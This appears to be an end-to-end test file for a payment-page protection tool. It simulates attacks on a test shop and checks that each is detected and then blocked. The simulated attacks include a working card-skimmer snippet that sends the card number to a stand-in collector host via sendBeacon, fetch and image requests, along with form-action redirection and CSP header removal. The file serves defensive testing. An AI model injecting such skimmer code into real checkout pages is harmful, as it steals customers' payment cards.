// What somebody who broke into the shop could do to its payment page: named within seconds, and stopped.

import assert from "node:assert/strict";
import { after, before } from "node:test";

import { audit } from "./lib/audit.mjs";
import { launch, open, refuses, tab, visitor, walk } from "./lib/browser.mjs";
import { Demo } from "./lib/demo.mjs";
import { Stranger, TamperedShop } from "./lib/tamper.mjs";

/** The gate: from the first serving, or the browser's first report, to the change with its name. */
const NAMED_MS_MAX = 5_000;
const CARD = "4242424242424242";

const world = {};

before(async () => {
  world.shop = await TamperedShop.start();
  world.collector = await Stranger.start("collector");
  // The provider's own server, so that it can be changed as well.
  world.provider = await Stranger.start("pay");
  for (const file of ["/pay/pay.js", "/pay/methods.json"]) {
    world.provider.files[file] = await world.shop.file(file);
  }
  world.shop.changes.push((answer) => {
    answer.headers["content-security-policy"] = "frame-ancestors 'none'";
    if (answer.text) answer.text = answer.text.replaceAll(world.shop.provider, world.provider.origin);
  });
  world.demo = await Demo.start({ origin: world.shop.origin });
  world.browser = await launch();
  world.owner = await world.demo.owner(world.browser);
  world.site = (await api("/api/v1/sites")).items[0].id;
});
after(async () => {
  await world.browser?.close();
  assert.equal(await world.demo?.stop(), 0, "the demo ends in good order");
  await Promise.all([world.shop?.stop(), world.collector?.stop(), world.provider?.stop()]);
});

async function api(path) {
  const answer = await world.owner.request.get(world.demo.console + path);
  assert.equal(answer.status(), 200, path);
  return answer.json();
}

const ofSite = (path) => api(`/api/v1/pages/${path}${path.includes("?") ? "&" : "?"}site=${world.site}`);

/** Asks until the answer pleases, at most `ms`; what pleased. */
async function soon(what, ask, ms = NAMED_MS_MAX) {
  const until = performance.now() + ms;
  for (;;) {
    const found = await ask();
    if (found) return found;
    assert.ok(performance.now() < until, `${what} within ${ms} ms`);
    await new Promise((again) => setTimeout(again, 50));
  }
}

async function owner(path) {
  await open(world.owner, world.demo.console + path);
  return world.owner;
}

/** A customer at the checkout, as somebody new: nothing is cached. */
async function checkout(shop = world.demo.shop) {
  const page = await tab(await visitor(world.browser));
  await open(page, `${shop}/products/tide-cups`);
  await page.getByRole("button", { name: "Add to cart" }).click();
  await page.getByRole("link", { name: "To checkout" }).click();
  await page.getByRole("heading", { level: 1, name: "Checkout" }).waitFor();
  return page;
}

/** Types a card number as a customer does, and orders. */
async function pay(page) {
  await page.getByLabel(/^By card/).check();
  await page.getByLabel("Card number").fill(CARD);
  await page.getByLabel("Card number").blur();
  await page.getByLabel("Valid until").fill("12/34");
  await page.getByLabel("Security code").fill("123");
  // A policy may refuse to send the form: nobody waits for a page that never comes.
  await page.getByRole("button", { name: /^Place order/ }).click({ noWaitAfter: true });
}

const SKIM = (to) => `(() => {
  const card = document.querySelector("input[autocomplete=cc-number]");
  if (card) card.addEventListener("blur", () => {
    navigator.sendBeacon("${to}/beacon", card.value);
    fetch("${to}/fetch?" + card.value, { mode: "no-cors" }).catch(() => {});
    new Image().src = "${to}/picture?" + card.value;
  });
})();`;

/** Each changes the shop, or its provider, as an attacker would, and says what it is told as. */
const ATTACKS = {
  "a skimmer in the page": {
    kind: "script_appeared",
    shows: /sendBeacon/,
    change: (answer) => onCheckout(answer, (text) => text.replace("</body>", `<script>${skimmer()}</script></body>`)),
  },
  "a file of the shop that was changed": {
    kind: "script_changed",
    shows: /sendBeacon/,
    change: (answer) => {
      if (answer.path === "/static/checkout.js") answer.text += skimmer();
    },
  },
  "a file of the provider that was changed": {
    kind: "script_changed",
    shows: /sendBeacon/,
    provider: (text) => text + skimmer(),
  },
  "another host that the provider's file sends to": {
    kind: "destination_appeared",
    provider: (text) => `${text}\nfetch("${world.collector.origin}/hello", { mode: "no-cors" }).catch(() => {});`,
  },
  "a security header that is gone": {
    kind: "header_weakened",
    change: (answer) => delete answer.headers["content-security-policy"],
    is_harmless: true,
  },
  "a form that is sent elsewhere": {
    kind: "form_redirected",
    change: (answer) =>
      onCheckout(answer, (text) => text.replace('action="/checkout"', `action="${world.collector.origin}/form"`)),
  },
};

let skimmers = 0;
/** Each is another one: attackers do not repeat themselves. */
const skimmer = () => `/* ${(skimmers += 1)} */${SKIM(world.collector.origin)}`;

function onCheckout(answer, change) {
  if (answer.path === "/checkout" && answer.text) answer.text = change(answer.text);
}

/** Runs `act` while the attack is in the shop. */
async function during(attack, act) {
  const before = world.provider.files["/pay/pay.js"];
  if (attack.provider) world.provider.files["/pay/pay.js"] = attack.provider(before);
  if (attack.change) world.shop.changes.push(attack.change);
  try {
    await act();
  } finally {
    world.provider.files["/pay/pay.js"] = before;
    if (attack.change) world.shop.changes.pop();
  }
}

/** What arrived with a card number in it; the page puts spaces between its digits. */
const leaked = () => world.collector.received.filter((what) => what.replace(/\s|%20|\+/g, "").includes(CARD));

walk("a payment page is watched, approved, attacked and held", world, async (step) => {
  await step("the inventory fills by itself", async () => {
    await checkout();
    await soon("the page is taken for one where people pay", async () => {
      const { items } = await ofSite("paths");
      return items.find(({ path, proposed }) => path === "/checkout" && proposed === "payment");
    });
    await checkout();
    const scripts = await soon("its scripts are listed", async () => {
      const { items } = await ofSite("scripts?class=payment");
      return items.length >= 3 && items;
    });
    const labels = scripts.map(({ label }) => label);
    for (const expected of ["/static/checkout.js", "/pay/pay.js", "var checkout"]) {
      assert.ok(labels.some((label) => label.includes(expected)), `${expected} in ${labels}`);
    }
  });

  await step("the owner says what the page is for, and approves it", async () => {
    const page = await owner("/pages/classes");
    await audit(page);
    await page.getByRole("button", { name: "This is right" }).click();
    await page.waitForURL(/\/pages/);
    await checkout();
    await owner("/pages/desk?class=payment");
    await audit(page);
    await page.locator("summary", { hasText: "Payment pages" }).click();
    const all = page.locator('form[action="/pages/desk/class"]').filter({ has: page.locator("#why-payment") });
    await all.getByLabel("Why all of it is needed").fill("Customers pay here");
    await all.getByRole("button", { name: "Approve all of it" }).click();
    await soon("nothing waits any more", async () => {
      const { items } = await ofSite("scripts?class=payment&status=new");
      return items.length === 0;
    });
  });

  for (const [name, attack] of Object.entries(ATTACKS)) {
    await step(`learning: ${name} is named`, async () => {
      const known = new Set((await ofSite("changes?class=payment")).items.map(({ id }) => id));
      await during(attack, async () => {
        await checkout();
        const change = await soon(name, async () => {
          const { items } = await ofSite("changes?class=payment");
          return items.find(({ id, kind, severity }) => kind === attack.kind && severity !== "info" && !known.has(id));
        });
        assert.match(change.page, /\/checkout$|\.js$/);
        assert.ok(["warning", "critical"].includes(change.severity), change.severity);
        if (attack.shows) {
          // A browser tells only the hash of a file of somebody else; what it says is fetched.
          await soon(`the difference of ${name}`, async () => {
            const { comparison } = await ofSite(`changes/${change.id}`);
            return attack.shows.test(JSON.stringify(comparison ?? ""));
          });
        }
        const page = await owner(`/pages/changes/${change.id}`);
        await audit(page);
      });
    });
  }

  await step("a skimmer without Gabion gets the card", async () => {
    await during(ATTACKS["a skimmer in the page"], async () => {
      await pay(await checkout(world.shop.origin));
      await soon("the card arrives", async () => leaked().length > 0);
      world.collector.received.length = 0;
    });
  });

  await step("the policy is enforced, and the shop goes on", async () => {
    await checkout();
    const page = await owner("/pages/policy");
    await audit(page);
    await page.getByRole("link", { name: "Enforce it on Payment pages" }).click();
    await page.getByRole("button", { name: /nforce/ }).click();
    await page.waitForURL(/\/pages\/policy/);
    const customer = await checkout();
    await customer.getByLabel(/^By card/).check();
    await customer.getByText("Paid through Harbor Pay").waitFor();
    for (const [label, value] of Object.entries({
      "Full name": "Ada Quay", "E-mail address": "ada@quay.example", "Street and number": "Pier 3",
      Postcode: "12345", Town: "Shoregate", Country: "Ireland",
    })) await customer.getByLabel(label, { exact: true }).fill(value);
    await customer.getByLabel(/^I agree/).check();
    await pay(customer);
    await customer.getByText("Thank you, Ada Quay.").waitFor();
    assert.deepEqual(leaked(), []);
  });

  for (const [name, attack] of Object.entries(ATTACKS).filter(([, attack]) => !attack.is_harmless)) {
    await step(`enforced: ${name} takes no card away`, async () => {
      await during(attack, async () => {
        const page = await checkout();
        refuses(page, page.url());
        await pay(page);
        await page.waitForTimeout(500);
        assert.deepEqual(leaked(), []);
      });
    });
  }
});
